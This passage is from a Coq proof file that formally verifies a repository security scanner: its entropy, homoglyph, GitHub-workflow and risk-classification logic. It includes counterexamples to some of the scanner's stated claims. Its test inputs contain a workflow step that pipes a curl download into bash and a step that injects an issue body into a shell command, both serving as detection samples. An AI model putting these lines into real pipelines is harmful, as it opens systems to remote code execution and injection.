    replace (done ++ ch :: cps) with ((done ++ [ch]) ++ cps)
      by (rewrite <- app_assoc; reflexivity).
    apply IH. apply countChar_CountsOf. exact H.
Qed.

(** The frequency map of [calculateEntropy] holds each character of the text
    once, with the number of its occurrences. *)
Lemma countFrequencies_CountsOf : forall data,
  CountsOf (codePoints data) (countFrequencies data).
Proof.
  intro data. unfold countFrequencies.
  change (fun frequencies char =>
            mapSet frequencies char (orZero (mapGet frequencies char) + 1))
    with countChar.
  apply (fold_countChar_CountsOf (codePoints data) [] []).
  split; [constructor|]. intros k v. split; [intros [] | intros [Hv Hpos]].
  unfold occurrences in Hv. simpl in Hv. lia.
Qed.

(** Code points: an induction that follows the iterator, and its lengths. *)
Lemma codePoints_concat : forall s, concat (codePoints s) = s.
Proof.
  assert (H : forall s, concat (codePoints s) = s
                        /\ forall c, concat (codePoints (c :: s)) = c :: s).
  { induction s as [|d s [IH1 IH2]].
    - split; [reflexivity | intro c; reflexivity].
    - split; [apply IH2|]. intro c.
      change (codePoints (c :: d :: s))
        with (if isLeadSurrogate c && isTrailSurrogate d
              then [c; d] :: codePoints s else [c] :: codePoints (d :: s)).
      destruct (isLeadSurrogate c && isTrailSurrogate d); cbn [concat].
      + rewrite IH1. reflexivity.
      + rewrite (IH2 d). reflexivity. }
  intro s. apply H.
Qed.

Lemma codePoints_nonempty : forall s cp, In cp (codePoints s) -> 0 < length cp.
Proof.
  assert (H : forall s, (forall cp, In cp (codePoints s) -> 0 < length cp)
                        /\ forall c cp, In cp (codePoints (c :: s)) -> 0 < length cp).
  { induction s as [|d s [IH1 IH2]].
    - split; [intros cp [] | intros c cp [Hcp | []]; subst; simpl; lia].
    - split; [apply IH2|]. intros c cp.
      change (codePoints (c :: d :: s))
        with (if isLeadSurrogate c && isTrailSurrogate d
              then [c; d] :: codePoints s else [c] :: codePoints (d :: s)).
      destruct (isLeadSurrogate c && isTrailSurrogate d); intros [Hcp | Hcp].
      + subst. simpl. lia.
      + apply IH1. exact Hcp.
      + subst. simpl. lia.
      + apply (IH2 d). exact Hcp. }
  intro s. apply H.
Qed.

Lemma length_concat_ge : forall l : list jsstring,
  (forall x, In x l -> 0 < length x) -> length l <= length (concat l).
Proof.
  induction l as [|x l IH]; intro H; simpl; [lia|].
  rewrite length_app.
  pose proof (H x (or_introl eq_refl)).
  assert (length l <= length (concat l)) by (apply IH; intros y Hy; apply H; right; exact Hy).
  lia.
Qed.

Lemma codePoints_length : forall s, length (codePoints s) <= length s.
Proof.
  intro s. rewrite <- (codePoints_concat s) at 2.
  apply length_concat_ge. apply codePoints_nonempty.
Qed.



Lemma entropySum_ge : forall len counts start,
  (forall c, In c counts -> 0 < c <= len) ->
  (start <= entropySum len counts start)%R.
Proof.
  intros len. induction counts as [|c counts IH]; intros start H.
  - unfold entropySum. simpl. lra.
  - unfold entropySum in *. cbn [fold_left].
    destruct (H c (or_introl eq_refl)) as [Hpos Hle].
    assert (Hc : (0 < INR c)%R) by (apply lt_0_INR; exact Hpos).
    assert (Hlen : (0 < INR len)%R) by (apply lt_0_INR; lia).
    assert (Hcl : (INR c <= INR len)%R) by (apply le_INR; exact Hle).
    assert (Hp : (0 < INR c / INR len)%R) by (apply Rdiv_lt_0_compat; assumption).
    assert (Hp1 : (INR c / INR len <= 1)%R).
    { apply (Rmult_le_reg_r (INR len)); [exact Hlen|].
      unfold Rdiv. rewrite Rmult_assoc, Rinv_l by lra. lra. }
    pose proof (EntropyValues.log2_nonpos _ Hp Hp1) as Hlog.
    eapply Rle_trans; [|apply IH; intros c' Hc'; apply H; right; exact Hc'].
    nra.
Qed.

End EntropyCounts.

(** ** The repository's unit tests, replayed on the embedding *)

Module TestReplay.

(** [entropy.test.ts]: [isLikelyBase64] and [isLikelyHex]. *)
Example base64_with_padding :
  Entropy.isLikelyBase64 (lit "SGVsbG8gV29ybGQhIQ==") = true
  /\ Entropy.isLikelyBase64 (lit "VGhpcyBpcyBhIHRlc3Q=") = true
  /\ Entropy.isLikelyBase64 (lit "SGVsbG8gV29ybGQhISEh") = true.
Proof. repeat split; vm_compute; reflexivity. Qed.

Example base64_rejected :
  Entropy.isLikelyBase64 (lit "SGVsbG8=") = false
  /\ Entropy.isLikelyBase64 (lit "Hello World! This is not base64") = false
  /\ Entropy.isLikelyBase64 (lit "SGVsbG8@V29ybGQh") = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

Example hex_detected :
  Entropy.isLikelyHex (lit "48656c6c6f20576f726c6421212121212121212121") = true
  /\ Entropy.isLikelyHex (lit "DEADBEEFCAFEBABEDEADBEEFCAFEBABE") = true
  /\ Entropy.isLikelyHex (lit "48656c6c6f20576f726c6421") = false
  /\ Entropy.isLikelyHex (lit "48656c6c6f20576f726c642") = false
  /\ Entropy.isLikelyHex (lit "48656c6c6f20576f726c64XY") = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** [homoglyph.test.ts] *)
Example zero_width_space_detected :
  map (fun r => (Homoglyph.type r, Homoglyph.position r, Homoglyph.codePoint r))
      (Homoglyph.detectInvisibleCharacters (lit "hello" ++ [8203%N] ++ lit "world"))
  = [(Homoglyph.zero_width, 5, lit "U+200B")].
Proof. vm_compute. reflexivity. Qed.

Example bidi_override_detected :
  map (fun r => (Homoglyph.type r, Homoglyph.codePoint r))
      (Homoglyph.detectInvisibleCharacters (lit "hello" ++ [8238%N] ++ lit "world"))
  = [(Homoglyph.bidi, lit "U+202E")].
Proof. vm_compute. reflexivity. Qed.

Example two_cyrillic_a_detected :
  length (Homoglyph.detectHomoglyphs
            (lit "p" ++ [1072%N] ++ lit "yp" ++ [1072%N] ++ lit "l")) = 2
  /\ Homoglyph.hasMixedScripts (lit "p" ++ [1072%N] ++ lit "ypal") = true
  /\ Homoglyph.hasMixedScripts (lit "Hello World") = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

Example plain_ascii_has_no_findings :
  Homoglyph.scanForHomoglyphs
    (lit "This is completely normal ASCII text without any tricks.") (lit "test.txt") = []
  /\ Homoglyph.needsHomoglyphScan (lit "Hello World!") = false
  /\ Homoglyph.needsHomoglyphScan (lit "hello" ++ [8203%N] ++ lit "world") = true
  /\ Homoglyph.needsHomoglyphScan (lit "hello" ++ [8238%N] ++ lit "world") = true.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** [github.test.ts] *)
Example workflow_paths :
  GitHub.appliesTo (lit ".github/workflows/ci.yml") = true
  /\ GitHub.appliesTo (lit ".github/workflows/build.yaml") = true
  /\ GitHub.appliesTo (lit "config.yml") = false
  /\ GitHub.appliesTo (lit ".github/ISSUE_TEMPLATE/bug.yml") = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

Example pwn_request_test :
  map (fun f => (riskLevel f, lineNumber f)) (GitHub.scan Samples.pwnWorkflow Samples.workflowPath)
  = [(YELLOW, Some 4); (RED, None)].
Proof. vm_compute. reflexivity. Qed.

Example injection_in_run_block :
  map (fun f => (riskLevel f, lineNumber f))
      (GitHub.scan (lit "
name: Issue Handler
on: issues
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ github.event.issue.body }}
") Samples.workflowPath)
  = [(RED, Some 8)].
Proof. vm_compute. reflexivity. Qed.

Example unpinned_and_pinned_actions :
  GitHub.hasUnpinnedAction (lit "- uses: actions/checkout@main") = true
  /\ GitHub.hasUnpinnedAction (lit "- uses: some-org/action@master") = true
  /\ GitHub.hasUnpinnedAction
       (lit "- uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11") = false
  /\ GitHub.hasUnpinnedAction (lit "- uses: actions/checkout@v4") = false.
Proof. repeat split; vm_compute; reflexivity. Qed.

Example curl_piped_to_bash :
  map (fun f => (riskLevel f, lineNumber f))
      (GitHub.scan (lit "
name: CI
on: push
jobs:
  install:
    runs-on: ubuntu-latest
    steps:
      - run: curl -s https://example.com/install.sh | bash
") Samples.workflowPath)
  = [(RED, Some 8)].
Proof. vm_compute. reflexivity. Qed.

Example safe_workflow :
  GitHub.scan (lit "
name: CI
on:
  push:
    branches: [main]
  pull_request:
    branches: [main]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: '20'
      - run: npm ci
      - run: npm test
") Samples.workflowPath = [].
Proof. vm_compute. reflexivity. Qed.

End TestReplay.

(* ================================================================== *)
(** * The claims *)

Import RiskClassifier Engine Vocabulary Samples.

Lemma determineOverallRisk_max : forall fs, IsMaxSeverity (determineOverallRisk fs) fs.
Proof.
  intro fs. unfold IsMaxSeverity.
  destruct (RiskClassifierFacts.determineOverallRisk_cases fs)
    as [[Hr [f [Hin Hf]]] | [[Hr [Hno [f [Hin Hf]]]] | [Hr Hall]]]; rewrite Hr.
  - split; [intro; subst; destruct Hin|]. split; [intro; exists f; tauto|].
    intros g _. destruct (riskLevel g); simpl; lia.
  - split; [intro; subst; destruct Hin|]. split; [intro; exists f; tauto|].
    intros g Hg. specialize (Hno g Hg). destruct (riskLevel g); simpl; try lia. congruence.
  - split; [reflexivity|]. split.
    + intro Hne. destruct fs as [|f fs']; [congruence|].
      exists f. split; [left; reflexivity | apply Hall; left; reflexivity].
    + intros g Hg. rewrite (Hall g Hg). simpl. lia.
Qed.

Lemma IsMaxSeverity_sorted : forall m fs,
  IsMaxSeverity m fs -> IsMaxSeverity m (sortFindingsBySeverity fs).
Proof.
  intros m fs [He [Hne Hle]]. unfold IsMaxSeverity. split; [|split].
  - intro Hs. apply He. destruct fs as [|f fs']; [reflexivity|].
    exfalso. assert (Hin : In f (sortFindingsBySeverity (f :: fs')))
      by (apply RiskClassifierFacts.sortFindingsBySeverity_In; left; reflexivity).
    rewrite Hs in Hin. destruct Hin.
  - intro Hs. destruct fs as [|f fs']; [exfalso; apply Hs; reflexivity|].
    destruct Hne as [g [Hg Hm]]; [discriminate|].
    exists g. split; [apply RiskClassifierFacts.sortFindingsBySeverity_In; exact Hg | exact Hm].
  - intros g Hg. apply Hle. apply RiskClassifierFacts.sortFindingsBySeverity_In. exact Hg.
Qed.

(** What [scanRepository] returns is built by [createScanResult]. *)
Lemma scanRepository_shape : forall scanners files repository config now r,
  scanRepository scanners files repository config now = Some r ->
  exists fs, r = createScanResult fs
                   (map path (filter wasRead files))
                   (map path (filter (fun f => negb (wasRead f)) files))
                   repository now.
Proof.
  intros scanners files repository config now r. unfold scanRepository.
  destruct (visitFiles scanners files config) as [v|] eqn:Hv; [|discriminate].
  destruct (EngineFacts.visitFiles_paths scanners config files v Hv) as [Hsc Hsk].
  cbn [bind]. rewrite Hsc, Hsk. intro H. inversion H. eexists. reflexivity.
Qed.

(** [scanRepository] returns when no ecosystem scanner throws. *)
Lemma scanRepository_returns : forall scanners files repository config now,
  scannersReturn scanners files ->
  exists r, scanRepository scanners files repository config now = Some r.
Proof.
  intros scanners files repository config now Hret. unfold scanRepository.
  destruct (EngineFacts.visitFiles_returns scanners config files Hret) as [v Hv].
  rewrite Hv. cbn [bind]. eexists. reflexivity.
Qed.

(** C2, as amended: [determineOverallRisk] returns RED exactly when some
    finding is RED, YELLOW exactly when none is RED and some is YELLOW, and
    GREEN exactly when every finding is GREEN, the empty list included. *)
Theorem determineOverallRisk_levels : forall fs,
  (determineOverallRisk fs = RED <-> exists f, In f fs /\ riskLevel f = RED)
  /\ (determineOverallRisk fs = YELLOW
      <-> (forall f, In f fs -> riskLevel f <> RED)
          /\ exists f, In f fs /\ riskLevel f = YELLOW)
  /\ (determineOverallRisk fs = GREEN <-> forall f, In f fs -> riskLevel f = GREEN).
Proof.
  intro fs.
  destruct (RiskClassifierFacts.determineOverallRisk_cases fs)
    as [[Hr [f [Hin Hf]]] | [[Hr [Hno [f [Hin Hf]]]] | [Hr Hall]]]; rewrite Hr.
  - split; [|split]; split; intro H; try discriminate; try reflexivity.
    + exists f. tauto.
    + exfalso. destruct H as [Hno _]. exact (Hno f Hin Hf).
    + exfalso. rewrite (H f Hin) in Hf. discriminate.
  - split; [|split]; split; intro H; try discriminate; try reflexivity.
    + exfalso. destruct H as [g [Hg Hred]]. exact (Hno g Hg Hred).
    + split; [exact Hno | exists f; tauto].
    + exfalso. rewrite (H f Hin) in Hf. discriminate.
  - split; [|split]; split; intro H; try discriminate; try reflexivity.
    + exfalso. destruct H as [g [Hg Hred]]. rewrite (Hall g Hg) in Hred. discriminate.
    + exfalso. destruct H as [_ [g [Hg Hy]]]. rewrite (Hall g Hg) in Hy. discriminate.
    + exact Hall.
Qed.

(** C2, as stated, fails: a list holding one GREEN finding is not empty, has
    no RED element, and is classified GREEN, not YELLOW. *)
Lemma determineOverallRisk_green_nonempty :
  determineOverallRisk [greenFinding] = GREEN
  /\ [greenFinding] <> []
  /\ (forall f, In f [greenFinding] -> riskLevel f <> RED)
  /\ determineOverallRisk [greenFinding] <> YELLOW.
Proof.
  split; [reflexivity|]. split; [discriminate|]. split.
  - intros f [Hf | []]. subst f. discriminate.
  - discriminate.
Qed.

(** C3: the [overallRisk] of a result of [createScanResult], and of every
    result of [scanRepository], is the maximum severity among the findings
    the result stores, GREEN when it stores none; and [scanRepository]
    returns a result whenever no ecosystem scanner throws. *)
Theorem overallRisk_is_max_severity :
  (forall fs scanned skipped repository now,
     IsMaxSeverity (overallRisk (createScanResult fs scanned skipped repository now))
                   (findings (createScanResult fs scanned skipped repository now)))
  /\ (forall scanners files repository config now,
        (forall r, scanRepository scanners files repository config now = Some r ->
                   IsMaxSeverity (overallRisk r) (findings r))
        /\ (scannersReturn scanners files ->
            exists r, scanRepository scanners files repository config now = Some r
                      /\ IsMaxSeverity (overallRisk r) (findings r))).
Proof.
  assert (Hproduced : forall scanners files repository config now r,
            scanRepository scanners files repository config now = Some r ->
            IsMaxSeverity (overallRisk r) (findings r)).
  { intros scanners files repository config now r Hr.
    destruct (scanRepository_shape scanners files repository config now r Hr) as [fs Hfs].
    subst r. simpl. apply IsMaxSeverity_sorted. apply determineOverallRisk_max. }
  split.
  - intros. simpl. apply IsMaxSeverity_sorted. apply determineOverallRisk_max.
  - intros scanners files repository config now. split.
    + apply Hproduced.
    + intro Hret.
      destruct (scanRepository_returns scanners files repository config now Hret) as [r Hr].
      exists r. split; [exact Hr | exact (Hproduced _ _ _ _ _ _ Hr)].
Qed.

Lemma overallRisk_is_max_severity_witness :
  scannersReturn silentScanners [readManifest; missingManifest]
  /\ exists r, scanRepository silentScanners [readManifest; missingManifest]
                              someRepository defaultConfig 0 = Some r
               /\ IsMaxSeverity (overallRisk r) (findings r).
Proof.
  assert (Hret : scannersReturn silentScanners [readManifest; missingManifest]).
  { intros file [Hf | [Hf | []]] _; subst file; discriminate. }
  split; [exact Hret|].
  exact (proj2 (proj2 overallRisk_is_max_severity silentScanners
                  [readManifest; missingManifest] someRepository defaultConfig 0) Hret).
Defined.

(** C9, at the failing input: two findings that differ in file path and in
    description are collapsed into one, because their keys are the same
    string. *)
Theorem deduplicateFindings_key_collision :
  deduplicateFindings [colonInDescription; colonInPath] = [colonInDescription]
  /\ ~ sameTuple colonInDescription colonInPath.
Proof.
  split; [reflexivity|].
  intros [_ [Hpath _]]. discriminate Hpath.
Qed.

(** Deduplication is idempotent. *)
Theorem deduplicateFindings_idempotent : forall X,
  deduplicateFindings (deduplicateFindings X) = deduplicateFindings X.
Proof.
  intro X. unfold deduplicateFindings.
  destruct (RiskClassifierFacts.dedupeLoop_keys X []) as [Hnd _].
  apply RiskClassifierFacts.dedupeLoop_fixed; [exact Hnd|].
  intros f _ [].
Qed.

(** Findings that agree on (severity, file path, description) are duplicates:
    the result of deduplication never holds two of them. *)
Theorem deduplicateFindings_no_same_tuple : forall X i j f g,
  nth_error (deduplicateFindings X) i = Some f ->
  nth_error (deduplicateFindings X) j = Some g ->
  sameTuple f g -> i = j.
Proof.
  intros X i j f g Hi Hj [Hr [Hp Hd]]. unfold deduplicateFindings in *.
  destruct (RiskClassifierFacts.dedupeLoop_keys X []) as [Hnd _].
  assert (Hk : findingKey f = findingKey g)
    by (unfold findingKey; rewrite Hr, Hp, Hd; reflexivity).
  assert (Hi' : nth_error (map findingKey (dedupeLoop X [])) i = Some (findingKey f))
    by (rewrite nth_error_map, Hi; reflexivity).
  assert (Hj' : nth_error (map findingKey (dedupeLoop X [])) j = Some (findingKey f))
    by (rewrite nth_error_map, Hj, Hk; reflexivity).
  rewrite (NoDup_nth_error (map findingKey (dedupeLoop X []))) in Hnd.
  apply Hnd; [|congruence].
  apply nth_error_Some. rewrite Hi'. discriminate.
Qed.

Lemma deduplicateFindings_no_same_tuple_witness :
  nth_error (deduplicateFindings [colonInDescription; colonInDescription]) 0
    = Some colonInDescription
  /\ sameTuple colonInDescription colonInDescription
  /\ 0 = 0.
Proof.
  split; [reflexivity|]. split; [repeat split|].
  apply (deduplicateFindings_no_same_tuple
           [colonInDescription; colonInDescription] 0 0 colonInDescription colonInDescription);
    [reflexivity | reflexivity | repeat split].
Defined.

(** When no file is readable, no file is scanned and every path is skipped. *)
Lemma visitFiles_unreadable : forall scanners config files,
  (forall file, In file files -> unreadable file) ->
  visitFiles scanners files config = Some (mkVisited [] (map path files) []).
Proof.
  intros scanners config. induction files as [|file rest IH]; intro Hall; [reflexivity|].
  simpl.
  change (exists_ file && negb (length (content file) =? 0)) with (wasRead file).
  rewrite (proj2 (EngineFacts.wasRead_false_iff file) (Hall file (or_introl eq_refl))).
  rewrite IH; [reflexivity|].
  intros f Hf. apply Hall. right. exact Hf.
Qed.

(** C1: when the batch is not empty and no file of it could be read,
    [scanRepository] returns a result whose [overallRisk] is YELLOW, with no
    scanned file, every path skipped, and one finding: the fetch-error
    finding, which counts the missing paths and names the first three. *)
Theorem scanRepository_nothing_read :
  forall scanners files repository config now,
    files <> [] ->
    (forall file, In file files -> unreadable file) ->
    exists r,
      scanRepository scanners files repository config now = Some r
      /\ overallRisk r = YELLOW
      /\ overallRisk r <> GREEN
      /\ scannedFiles r = []
      /\ skippedFiles r = map path files
      /\ findings r = [unableToFetchFinding repository (map path files)]
      /\ exists f, In f (findings r)
           /\ riskLevel f = YELLOW
           /\ category f = FETCH_ERROR
           /\ matchedContent f
              = Some (natToString (length files) ++ lit " file(s): "
                      ++ join (lit ", ") (firstn 3 (map path files))).
Proof.
  intros scanners files repository config now Hne Hall.
  unfold scanRepository. rewrite (visitFiles_unreadable scanners config files Hall).
  destruct files as [|file rest]; [congruence|].
  eexists. split; [reflexivity|]. simpl.
  split; [reflexivity|]. split; [discriminate|]. split; [reflexivity|].
  split; [reflexivity|]. split; [reflexivity|].
  eexists. split; [left; reflexivity|]. simpl.
  split; [reflexivity|]. split; [reflexivity|].
  rewrite length_map. reflexivity.
Qed.

Lemma scanRepository_nothing_read_witness :
  [missingManifest] <> []
  /\ (forall file, In file [missingManifest] -> unreadable file)
  /\ exists r,
      scanRepository silentScanners [missingManifest] someRepository defaultConfig 0 = Some r
      /\ overallRisk r = YELLOW
      /\ overallRisk r <> GREEN
      /\ scannedFiles r = []
      /\ skippedFiles r = map path [missingManifest]
      /\ findings r = [unableToFetchFinding someRepository (map path [missingManifest])]
      /\ exists f, In f (findings r)
           /\ riskLevel f = YELLOW
           /\ category f = FETCH_ERROR
           /\ matchedContent f
              = Some (natToString (length [missingManifest]) ++ lit " file(s): "
                      ++ join (lit ", ") (firstn 3 (map path [missingManifest]))).
Proof.
  assert (Hne : [missingManifest] <> []) by discriminate.
  assert (Hall : forall file, In file [missingManifest] -> unreadable file).
  { intros file [Hf | []]. subst file. left. reflexivity. }
  split; [exact Hne|]. split; [exact Hall|].
  exact (scanRepository_nothing_read silentScanners [missingManifest] someRepository
           defaultConfig 0 Hne Hall).
Defined.

(** An empty file and a missing file are visited alike. *)
Lemma visitFiles_empty_content : forall scanners config p e earlier later,
  visitFiles scanners (earlier ++ mkFileContent p [] e :: later) config
  = visitFiles scanners (earlier ++ mkFileContent p [] false :: later) config.
Proof.
  intros scanners config p e. induction earlier as [|file rest IH]; intro later.
  - simpl. rewrite andb_false_r. reflexivity.
  - simpl. rewrite IH. reflexivity.
Qed.

(** C10: a file whose content is the empty string, whatever its [exists]
    flag, yields no finding from [scanFile]; [scanRepository] treats it as it
    treats a missing file with the same path: every result records its path
    in [skippedFiles] and counts only the other files that were read as
    scanned; and a result is returned whenever no ecosystem scanner throws on
    the other files. *)
Theorem empty_file_is_skipped : forall scanners p e config,
  scanFile scanners (mkFileContent p [] e) config = Some []
  /\ forall earlier later repository now,
       scanRepository scanners (earlier ++ mkFileContent p [] e :: later)
                      repository config now
       = scanRepository scanners (earlier ++ mkFileContent p [] false :: later)
                        repository config now
       /\ (forall r,
             scanRepository scanners (earlier ++ mkFileContent p [] e :: later)
                            repository config now = Some r ->
             In p (skippedFiles r)
             /\ scannedFiles r = map path (filter wasRead (earlier ++ later)))
       /\ (scannersReturn scanners (earlier ++ later) ->
           exists r,
             scanRepository scanners (earlier ++ mkFileContent p [] e :: later)
                            repository config now = Some r).
Proof.
  intros scanners p e config.
  assert (Hw : wasRead (mkFileContent p [] e) = false)
    by (unfold wasRead; simpl; apply andb_false_r).
  split.
  - unfold scanFile. simpl. rewrite orb_true_r. reflexivity.
  - intros earlier later repository now. split; [|split].
    + unfold scanRepository. rewrite visitFiles_empty_content. reflexivity.
    + intros r Hr.
      destruct (scanRepository_shape _ _ _ _ _ _ Hr) as [fs Hfs]. subst r. simpl.
      split.
      * rewrite filter_app, map_app. apply in_or_app. right.
        simpl. rewrite Hw. simpl. left. reflexivity.
      * rewrite !filter_app. simpl. rewrite Hw. reflexivity.
    + intro Hret. apply scanRepository_returns.
      apply EngineFacts.scannersReturn_without; assumption.
Qed.

Lemma empty_file_is_skipped_witness :
  scannersReturn silentScanners ([readManifest] ++ [])
  /\ exists r,
       scanRepository silentScanners
         ([readManifest] ++ mkFileContent (lit "package.json") [] true :: [])
         someRepository defaultConfig 0 = Some r.
Proof.
  assert (Hret : scannersReturn silentScanners ([readManifest] ++ [])).
  { intros file [Hf | []] _; subst file; discriminate. }
  split; [exact Hret|].
  exact (proj2 (proj2 (proj2 (empty_file_is_skipped silentScanners (lit "package.json")
                                true defaultConfig)
                         [readManifest] [] someRepository 0)) Hret).
Defined.

(** ** Entropy analyzer and homoglyph detector *)

(** A text of exactly one window: the loop bound [i < content.length -
    windowSize] is [0 < 0], so no window is examined. *)
Lemma scanForHighEntropy_one_window : forall content path,
  length content = 100 -> Entropy.scanForHighEntropyDefault content path = Some [].
Proof.
  intros content path Hlen.
  unfold Entropy.scanForHighEntropyDefault, Entropy.scanForHighEntropy,
    Entropy.windowFindings.
  rewrite EntropyLoop.slidingWindows_done by (rewrite Hlen; reflexivity).
  rewrite Hlen. rewrite Nat.ltb_irrefl. reflexivity.
Qed.

(** C5, at the failing input: a text of exactly 100 characters, all distinct,
    has critical entropy, and [scanForHighEntropy] returns no finding for
    it. *)
Theorem exact_window_not_scanned :
  length hundredDistinct = 100
  /\ Entropy.classifyEntropy (Entropy.calculateEntropy hundredDistinct) = Entropy.critical
  /\ Entropy.scanForHighEntropyDefault hundredDistinct somePath = Some [].
Proof.
  split; [reflexivity|]. split.
  - exact EntropyValues.hundredDistinct_critical.
  - apply scanForHighEntropy_one_window. reflexivity.
Qed.

Lemma includes_unit_In : forall s u, includes s [u] = true -> In u s.
Proof.
  induction s as [|x s IH]; intros u H; simpl in H.
  - discriminate.
  - apply orb_true_iff in H. destruct H as [H | H].
    + apply andb_true_iff in H. destruct H as [H _]. apply N.eqb_eq in H. left. exact H.
    + right. apply IH. exact H.
Qed.

(** No text of ASCII units includes a character above U+007F. *)
Lemma ascii_includes_none : forall content chars,
  forallb (fun c => N.leb c 127) content = true ->
  forallb (fun ch => match ch with [u] => negb (N.leb u 127) | _ => false end) chars = true ->
  existsb (fun ch => includes content ch) chars = false.
Proof.
  intros content chars Hascii Hhigh.
  destruct (existsb (fun ch => includes content ch) chars) eqn:E; [|reflexivity].
  apply existsb_exists in E. destruct E as [ch [Hin Hinc]].
  rewrite forallb_forall in Hhigh. specialize (Hhigh ch Hin).
  destruct ch as [|u [|v rest]]; try discriminate.
  apply includes_unit_In in Hinc.
  rewrite forallb_forall in Hascii. rewrite (Hascii u Hinc) in Hhigh. discriminate.
Qed.

(** The gate is closed on every ASCII text. *)
Theorem needsHomoglyphScan_ascii : forall content,
  forallb (fun c => N.leb c 127) content = true ->
  Homoglyph.needsHomoglyphScan content = false.
Proof.
  intros content Hascii. unfold Homoglyph.needsHomoglyphScan.
  rewrite (ascii_includes_none content Homoglyph.INVISIBLE_CHARS Hascii eq_refl).
  rewrite (ascii_includes_none content Homoglyph.BIDI_CHARS Hascii eq_refl).
  rewrite !orb_false_r. unfold Homoglyph.hasNonAscii.
  destruct (existsb (fun c => negb (N.leb c 127)) content) eqn:E; [|reflexivity].
  apply existsb_exists in E. destruct E as [c [Hin Hc]].
  rewrite forallb_forall in Hascii. rewrite (Hascii c Hin) in Hc. discriminate.
Qed.

Lemma needsHomoglyphScan_ascii_witness :
  forallb (fun c => N.leb c 127) versionText = true
  /\ Homoglyph.needsHomoglyphScan versionText = false.
Proof.
  split; [reflexivity|].
  apply (needsHomoglyphScan_ascii versionText). reflexivity.
Defined.

(** C6, at the failing input: the text [v1.0] is ASCII and the gate is
    closed on it, yet [scanForHomoglyphs] reports a YELLOW finding for it
    (the digit zero is listed as a lookalike of the letter o). *)
Theorem gate_skips_text_with_finding :
  forallb (fun c => N.leb c 127) versionText = true
  /\ Homoglyph.needsHomoglyphScan versionText = false
  /\ exists f, Homoglyph.scanForHomoglyphs versionText somePath = [f]
               /\ riskLevel f = YELLOW
               /\ description f = lit "1 potential homoglyph character(s) detected".
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  eexists. split; [vm_compute; reflexivity|]. split; reflexivity.
Qed.

(** C7, at the failing input: the text is one character, U+1F600, repeated;
    its length is 4 code units and its one character is counted twice, so
    the entropy is 1/2, not 0. *)
Theorem repeated_astral_character_entropy :
  codePoints grinningTwice = [grinningFace; grinningFace]
  /\ Entropy.calculateEntropy grinningTwice = (1 / 2)%R
  /\ Entropy.calculateEntropy grinningTwice <> 0%R.
Proof.
  assert (H : Entropy.calculateEntropy grinningTwice = (1 / 2)%R).
  { rewrite EntropyValues.calculateEntropy_unfold by discriminate.
    replace (Entropy.mapValues (Entropy.countFrequencies grinningTwice)) with (repeat 2 1)
      by reflexivity.
    replace (length grinningTwice) with 4 by reflexivity.
    rewrite EntropyValues.entropySum_repeat.
    rewrite !INR_IZR_INZ.
    change (Z.of_nat 1) with 1%Z. change (Z.of_nat 2) with 2%Z.
    change (Z.of_nat 4) with 4%Z.
    replace (2 / 4)%R with (/ 2)%R by lra.
    rewrite EntropyValues.log2_Rinv by lra.
    assert (H2 : Entropy.log2 2 = 1%R).
    { unfold Entropy.log2. field. pose proof EntropyValues.ln2_pos. lra. }
    rewrite H2. lra. }
  split; [reflexivity|]. split; [exact H|]. rewrite H. lra.
Qed.

(** ** The limits on the output of the two analyzers *)

Lemma keptRegions_length : forall raw, length (keptRegions raw) <= 5.
Proof.
  intro raw. unfold keptRegions. rewrite length_app, !length_firstn. lia.
Qed.

Lemma entropy_limitFindings_many : forall path raw,
  5 < length raw ->
  Entropy.limitFindings path raw
  = keptRegions raw
    ++ [Entropy.additionalRegionsFinding path (length raw - length (keptRegions raw))].
Proof.
  intros path raw Hmany. unfold Entropy.limitFindings.
  replace (5 <? length raw) with true by (symmetry; apply Nat.ltb_lt; exact Hmany).
  fold isRED. fold isYELLOW. unfold take. fold (keptRegions raw).
  pose proof (keptRegions_length raw) as Hk.
  replace (length (keptRegions raw) <? length raw) with true
    by (symmetry; apply Nat.ltb_lt; lia).
  reflexivity.
Qed.

Lemma entropy_limitFindings_length : forall path raw,
  length (Entropy.limitFindings path raw) <= 6.
Proof.
  intros path raw. destruct (Nat.ltb_spec 5 (length raw)) as [Hmany | Hfew].
  - rewrite entropy_limitFindings_many by exact Hmany.
    rewrite length_app. pose proof (keptRegions_length raw). cbn [length]. lia.
  - unfold Entropy.limitFindings.
    replace (5 <? length raw) with false by (symmetry; apply Nat.ltb_ge; exact Hfew).
    lia.
Qed.

Lemma executionFindings_RED : forall content path f,
  In f (RecursiveGuard.executionFindings content path) -> riskLevel f = RED.
Proof.
  intros content path f Hin. unfold RecursiveGuard.executionFindings in Hin.
  apply in_flat_map in Hin. destruct Hin as [entry [_ Hin]].
  apply in_flat_map in Hin. destruct Hin as [pattern [_ Hin]].
  apply in_map_iff in Hin. destruct Hin as [matched [Hf _]]. subst f. reflexivity.
Qed.

(** More than one raw finding of the secondary-script scanner: all RED. *)
Lemma rawFindings_many_RED : forall content path f,
  1 < length (RecursiveGuard.rawFindings content path) ->
  In f (RecursiveGuard.rawFindings content path) -> riskLevel f = RED.
Proof.
  intros content path f. unfold RecursiveGuard.rawFindings.
  destruct ((0 <? length (filter RecursiveGuard.isSuspiciousUrl
                            (RecursiveGuard.extractUrls content)))
            && (length (RecursiveGuard.executionFindings content path) =? 0)) eqn:E.
  - apply andb_true_iff in E. destruct E as [_ E]. apply Nat.eqb_eq in E.
    rewrite length_app, E. simpl. lia.
  - intros _ Hin. exact (executionFindings_RED content path f Hin).
Qed.

(** C4, as amended: each of the two analyzers returns at most six findings.
    When the entropy loop finds more than five, [scanForHighEntropy] returns
    the first three RED and the first two YELLOW of them, in scan order, and
    one YELLOW summary finding that counts the rest. When the secondary-script
    scanner finds more than five, all of them are RED and it returns the first
    five of them and one YELLOW summary finding that counts the rest. *)
Theorem findings_are_limited_to_six :
  (forall content path,
     exists r, Entropy.scanForHighEntropyDefault content path = Some r /\ length r <= 6)
  /\ (forall content path raw,
        100 <= length content ->
        Entropy.windowFindings content path 100 50 = Some raw ->
        5 < length raw ->
